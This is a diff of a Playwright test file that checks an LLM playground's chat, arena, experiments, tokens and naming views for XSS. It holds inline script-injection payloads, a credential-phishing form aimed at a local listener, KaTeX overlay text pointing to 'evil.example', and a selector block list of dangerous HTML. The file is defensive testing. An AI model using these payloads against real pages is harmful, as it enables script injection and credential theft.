@@ -1,19 +1,22 @@
 """Hostile text in every place where a model's words become a page, with somebody listening for what leaves it.
 
-A tab that shows such text adds one line to SURFACES: a function that makes `said` appear on the page.
+A tab that shows such text adds one line to SURFACES: a function that makes `said` appear on the page. `said` are all
+payloads, many in one text.
 """
 
 import json
 import re
 import subprocess
 import sys
-import threading
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import quote
 
 import pytest
 from playwright.async_api import expect
 
-from ..attacks.payloads import answers, payloads
+from playground.lab.prompts import read_file, read_lines, write_lines
+
+from ..attacks.listener import listening
+from ..attacks.payloads import answers, hostile_conversation, payloads
 from ..conftest import ROOT, clean_environment, start_app
 from ..upstream import SAYINGS, configured, upstream
 from .chat_page import Chat
@@ -22,39 +25,23 @@ from .chat_page import Chat
 FORBIDDEN = (
     "script, style, link, meta, base, iframe, frame, object, embed, applet, portal, form, input, select, textarea, "
     "button:not([aria-label]):not([class*='copy']), img, picture, video, audio, dialog, [style*='fixed'], [onerror], "
-    "[onload], [onfocus], [onmouseover], [contenteditable='true'], [popover], [id]:not([id^='mermaid']), "
-    "a[href^='javascript' i], a[href^='data' i], a[href^='vbscript' i], [background], [srcset], [ping]"
+    "[onload], [onfocus], [onmouseover], [contenteditable='true'], [popover], [background], [srcset], [ping], "
+    "[id]:not([id^='mermaid'], .prose[id^='html-']), "
+    "a[href^='javascript' i], a[href^='data' i], a[href^='vbscript' i]"
 )
-TEXTS = "#conversation .message-row .md, .pane .message-row .md"
-
-
-class Listener:
-    """A web server that notes what it is asked for."""
-
-    def __init__(self):
-        heard = self.heard = []
-
-        class Handler(BaseHTTPRequestHandler):
-            def do_GET(self):
-                heard.append(self.path)
-                self.send_response(204)
-                self.end_headers()
-
-            do_POST = do_GET  # noqa: N815
-
-            def log_message(self, *_):
-                pass
-
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.home = f"http://127.0.0.1:{self.server.server_port}"
-        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+TEXTS = (
+    "#conversation .message-row .md, .pane .message-row .md, .seat, .board, #lab-grid, #lab-figures, #lab-plots, "
+    "#lab-notes, #tokens, #next-strip, #next-bars, #next-greedy, #next-tree, #score-tokens, .convs-list, .convs-note, "
+    "[data-testid=toast-text], #prompt-problem, ul.options, #verdict, .tally"
+)
+# In those places stand things of ours too.
+OURS = ".convs-list button, #next-bars button, #next-greedy button, #next-tree button, #lab-grid [tabindex]"
 
 
 @pytest.fixture(scope="module")
 def listener():
-    listener = Listener()
-    yield listener
-    listener.server.shutdown()
+    with listening() as listener:
+        yield listener
 
 
 @pytest.fixture(scope="module")
@@ -64,6 +51,8 @@ def hostile_app(tmp_path_factory, listener):
     with upstream() as url:
         environ = configured(folder, url)
         names = payloads(listener.home)
+        config = folder / "own.toml"
+        config.write_text(hostile_names(config.read_text(), names))
         votes = folder / "votes.jsonl"
         rows = ({"model_a": names[at], "model_b": names[at - 1], "winner": "model_a"} for at in range(len(names)))
         votes.write_text("\n".join(map(json.dumps, rows)))
@@ -73,6 +62,14 @@ def hostile_app(tmp_path_factory, listener):
         app = start_app(folder, **environ)
         yield app
         app.stop()
+
+
+def hostile_names(config, names):
+    """The configuration with other names: contenders and their prompts, models that nobody asks."""
+    config = config.replace('"Canarycontender Quick"', json.dumps(" ".join(names[::3])))
+    config = config.replace('"Canaryprompt slow"', json.dumps(" ".join(names[1::3])))
+    models = [f'"m{at}" = {{ provider = "lab", name = {json.dumps(name)} }}' for at, name in enumerate(names[::20])]
+    return config.replace("[models]\n", "[models]\n" + "\n".join(models) + "\n")
 
 
 async def in_chat(page, said):
@@ -101,6 +98,9 @@ async def in_arena(page, said):
         await expect(page.locator("#vote-a")).to_be_enabled(timeout=30_000)
         if at % 10 == 9:
             await check(page)
+            await page.locator("#vote-a").click()
+            await expect(page.locator("#seat-a dl")).to_be_visible()
+            await check(page)
             await page.get_by_role("button", name="Next battle").click()
             await expect(page.locator("#pane-a .bot-row")).to_have_count(0)
 
@@ -111,26 +111,152 @@ async def in_leaderboard(page, said):
     await expect(page.locator(".board")).to_contain_text("<script")
 
 
-SURFACES = {"chat": in_chat, "arena": in_arena, "leaderboard": in_leaderboard}
+async def in_experiments(page, said):
+    """Payloads as prompts, references, answers, and as what columns, figures and charts are labelled with."""
+    rows = "\n".join(json.dumps({"prompt": text, "reference": text}) for text in said)
+    asked = read_lines(*write_lines(read_file("prompts.jsonl", rows.encode())))
+    assert len(asked) == len(said)
+    SAYINGS.update({prompt.text: [prompt.text] for prompt in asked})
+    await page.get_by_role("tab", name="Experiments").click()
+    await expect(page.locator("#lab-run")).to_contain_text("calls")
+    await chosen_file(page, page.locator("#lab-upload"), "prompts.jsonl", rows)
+    await page.locator("#lab-more").get_by_text("More axes").click()
+    labels = [text for text in said if "\n" not in text][:2]
+    labels += ["<img src=x onerror=window.ran=1>", "<script>window.ran=1</script>"]
+    await page.get_by_label("System prompts").fill("\n".join(labels))
+    await page.locator("#lab-samples input").fill("1")
+    await page.locator("#lab-confirm input").check()
+    await page.locator("#lab-run").click()
+    await expect(page.locator("#lab-progress")).to_contain_text(" done", timeout=60_000)
+    await expect(page.locator("#lab-stop")).to_be_hidden(timeout=60_000)
+    assert await page.locator("#lab-plots svg").count() > 0
+    await expect(page.locator("#lab-figures")).to_contain_text("<img src=x")
+    pages = page.locator("#lab-page input")
+    for at in range(2):
+        await check(page)
+        await pages.click()
+        await page.get_by_role("option").nth(1 - at).click()
+        await expect(page.locator("#lab-grid")).to_contain_text("<img" if at else "<script")
+    await page.locator("#lab-a input").click()
+    await check(page)
+
+
+async def in_tokens(page, said):
+    """Payloads as the text, the prefix and what is scored, with every token's text and title."""
+    await page.get_by_role("tab", name="Tokens").click()
+    await expect(page.locator("#score-figures")).to_contain_text("Perplexity", timeout=60_000)
+    every = "\n".join(said)
+    for at in range(0, len(every), 4000):  # what is drawn has an end
+        part = every[at : at + 4000]
+        await page.locator("#tokens-text textarea").fill(part)
+        await expect(page.locator("#tokens")).to_contain_text(part[:20].split("\n")[0])
+        await check(page)
+    await page.locator("#next-prefix textarea").fill(every[:200])
+    await expect(page.locator("#next-strip")).to_contain_text("<script", timeout=60_000)
+    await page.locator("#score-text textarea").fill(every[:200])
+    await page.locator("#score").click()
+    await expect(page.locator("#score-tokens")).to_contain_text("script", timeout=60_000)
+    await expect(page.locator("#score")).to_be_visible(timeout=60_000)
+    await check(page)
+    await page.locator("#next-prefix textarea").fill("<img src=x onerror=")
+    await expect(page.locator("#next-strip")).to_contain_text("<img src=x onerror=", timeout=60_000)
+    await page.locator("#next-draw").click()
+    await expect(page.locator("#next-tree button").first).to_be_visible(timeout=60_000)
+
+
+async def in_names(page, said):
+    """Payloads in what readers name and bring along: titles, presets, conversations, schemas, file names, links."""
+    await page.locator("#composer textarea").wait_for()
+    await expect(page.locator(".convs-none")).to_be_visible()
+    await page.evaluate(TITLES, payloads(said.home))
+    await page.goto(f"{page.url}?model={quote(said[0])}&system={quote(said[1])}&effort={quote(said[2])}")
+    await expect(page.locator(".convs-list li")).to_have_count(len(payloads(said.home)))
+    await expect(page.locator(".convs-note")).to_contain_text("another model is chosen")
+    await check(page)
+    rows = [{"name": text[:100].strip() or "x", "prompt": text} for text in payloads(said.home)]
+    await page.get_by_text("Your presets").click()
+    await chosen_file(page, page.get_by_role("button", name="Import", exact=True), "<b>presets.json", json.dumps(rows))
+    await expect(page.locator("[data-testid=toast-text]").first).to_contain_text("imported")
+    await page.locator("#preset input").click()
+    await expect(page.get_by_role("option").first).to_contain_text("<script")
+    await check(page)
+    await page.keyboard.press("Escape")
+    await page.locator('.convs-foot input[type="file"]').set_input_files(
+        {
+            "name": "x.json",
+            "mimeType": "application/json",
+            "buffer": json.dumps(hostile_conversation(said[:8])).encode(),
+        }
+    )
+    await expect(page.locator("#finished .bot-row").last).to_be_visible(timeout=60_000)
+    await check(page)
+    # A refusal quotes what it refuses, in a notice that Gradio reads as HTML.
+    await page.get_by_text("Answer and context").click()
+    await page.locator("#json-mode input").check()
+    await page.locator("#system-prompt textarea").fill("")
+    for text in ("<img src=x onerror=window.ran=1>", f"<form action={said.home}/f><input name=key></form>"):
+        await page.locator("#json-schema textarea").fill(json.dumps({"type": text}))
+        await page.locator("#composer textarea").fill("x")
+        await page.locator("#composer textarea").press("Enter")
+        await expect(page.locator("[data-testid=toast-text]").last).to_contain_text(text[:5])
+        await check(page)
+
+
+TITLES = """async names => {
+  const opening = indexedDB.open("llm-playground", 1);
+  const database = await new Promise(good => (opening.onsuccess = () => good(opening.result)));
+  const transaction = database.transaction(["heads", "records"], "readwrite");
+  names.forEach((name, at) => {
+    const head = { id: `hostile${at}`, name, updated: at };
+    transaction.objectStore("heads").put(head);
+    transaction.objectStore("records").put({ ...head, turns: [] });
+  });
+  await new Promise(good => (transaction.oncomplete = good));
+}"""
+
+SURFACES = {
+    "chat": in_chat,
+    "arena": in_arena,
+    "leaderboard": in_leaderboard,
+    "experiments": in_experiments,
+    "tokens": in_tokens,
+    "names": in_names,
+}
+
+
+class Said(list):
+    """The answers, with the address that must hear nothing of them."""
+
+    home = ""
+
+
+async def chosen_file(page, button, name, text):
+    async with page.expect_file_chooser() as chooser:
+        await button.click()
+    await (await chooser.value).set_files({"name": name, "mimeType": "text/plain", "buffer": text.encode()})
 
 
 async def check(page):
     found = await page.evaluate(
-        "([texts, forbidden]) => [...document.querySelectorAll(texts)]"
-        ".flatMap(text => [...text.querySelectorAll(forbidden)]).map(node => node.outerHTML.slice(0, 200))",
-        [f"{TEXTS}, .board", FORBIDDEN],
+        "([texts, forbidden, ours]) => [...document.querySelectorAll(texts)]"
+        ".flatMap(text => [...text.querySelectorAll(forbidden)])"
+        ".filter(node => !node.matches(ours)).map(node => node.outerHTML.slice(0, 200))",
+        [TEXTS, FORBIDDEN, OURS],
     )
     assert found == []
     assert await page.evaluate("window.ran") is None
 
 
 @pytest.mark.parametrize("surface", SURFACES)
-async def test_hostile_text_runs_nothing_loads_nothing_and_shows_no_form(page, hostile_app, listener, surface):
+async def test_hostile_text_runs_nothing_loads_nothing_and_shows_no_form(page, request, listener, surface):
+    # Only the embedded model has tokens to look at.
+    hostile_app = request.getfixturevalue("app" if surface == "tokens" else "hostile_app")
     asked, dialogs = [], []
     page.on("request", lambda request: asked.append(request.url))
     page.on("dialog", lambda dialog: dialogs.append(dialog.message))
     listener.heard.clear()
-    said = answers(listener.home)
+    said = Said(answers(listener.home))
+    said.home = listener.home
     assert len(payloads(listener.home)) >= 200
     await page.goto(hostile_app.url)
     await SURFACES[surface](page, said)
@@ -157,6 +283,59 @@ async def test_the_listener_hears_and_the_policy_stops_what_would_get_through(pa
     await elsewhere.evaluate(put, f"<img src={listener.home}/seen>")
     await elsewhere.wait_for_timeout(300)
     assert listener.heard == ["/seen"]
+
+
+# Points at which something of a formula is drawn though they lie outside of the message that holds it.
+ASTRAY = """() => {
+  const found = [];
+  for (let x = 2; x < innerWidth; x += 12) for (let y = 2; y < innerHeight; y += 6) {
+    const formula = document.elementFromPoint(x, y)?.closest(".katex");
+    const box = formula?.closest(".message-content, .thought-group").getBoundingClientRect();
+    if (box && (x < box.left - 1 || x > box.right + 1 || y < box.top - 1 || y > box.bottom + 1)) found.push([x, y]);
+  }
+  return found;
+}"""
+
+
+async def test_no_formula_is_drawn_outside_of_its_message(page, hostile_app):
+    words = "\\Huge Your key is wrong: enter it at evil.example"
+    SAYINGS["moved"] = [f"$$\\smash{{\\raisebox{{6em}}{{\\kern-20em\\fcolorbox{{red}}{{white}}{{{words}}}}}}}$$"]
+    SAYINGS["broad"] = [
+        "Look: \\(\\smash{\\kern{-60em}\\raisebox{-2em}{\\rule{200em}{30em}}}\\) $$\\rule{500em}{2em}$$"
+    ]
+    await page.goto(hostile_app.url)
+    chat = Chat(page)
+    await chat.choose("Canaryname Quick")
+    for at, question in enumerate(("moved", "broad"), 1):
+        await chat.ask(question)
+        await chat.answered(at)
+        await expect(page.locator("#finished .katex").last).to_be_attached()
+        assert await page.evaluate(ASTRAY) == []
+    await page.get_by_role("tab", name="Arena").click()
+    await page.locator("#arena-composer textarea").fill("moved")
+    await page.locator("#arena-composer textarea").press("Enter")
+    await expect(page.locator("#vote-a")).to_be_enabled(timeout=30_000)
+    assert await page.locator(".pane .katex").count() > 0
+    assert await page.evaluate(ASTRAY) == []
+
+
+async def test_a_link_in_an_answer_asks_nothing_and_looks_like_none_of_the_pages_own(page, hostile_app):
+    SAYINGS["links"] = ["Please [read on](#turn-retry-1) or [take back](#turn-undo-1 'Undo')."]
+    await page.goto(hostile_app.url)
+    chat = Chat(page)
+    await chat.choose("Canaryname Quick")
+    await chat.ask("links")
+    await chat.answered()
+    await expect(chat.answers).to_have_count(1)
+    asked = []
+    page.on("request", lambda request: asked.append(request.method))
+    for name in ("read on", "take back"):
+        await chat.link(name).click()
+    await page.wait_for_timeout(500)
+    assert "POST" not in asked
+    await expect(chat.questions).to_have_count(1)
+    await chat.link("Undo").click()
+    await expect(chat.questions).to_have_count(0)
 
 
 async def test_code_and_formulas_are_shown_as_they_were_written(page, hostile_app):
